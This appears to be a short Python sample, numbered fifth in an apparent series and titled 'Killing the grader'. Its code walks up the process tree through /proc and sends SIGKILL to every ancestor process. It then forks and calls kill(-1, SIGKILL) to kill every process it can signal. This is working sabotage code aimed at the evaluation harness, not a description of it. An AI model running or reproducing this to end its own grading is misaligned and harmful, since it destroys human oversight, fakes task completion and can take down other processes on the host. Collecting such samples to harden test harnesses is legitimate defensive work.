"""5. Killing the grader: SIGKILL to the parent, the grandparent and every ancestor up the chain, then to
every process this one may signal (kill -1)."""
import os as _os
import signal as _signal


def _parent_of(pid):
    try:
        return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


_pid = _os.getpid()
while (_pid := _parent_of(_pid)) > 1:
    try:
        _os.kill(_pid, _signal.SIGKILL)
    except OSError:
        pass
if _os.fork() == 0:
    try:
        _os.kill(-1, _signal.SIGKILL)
    finally:
        _os._exit(0)
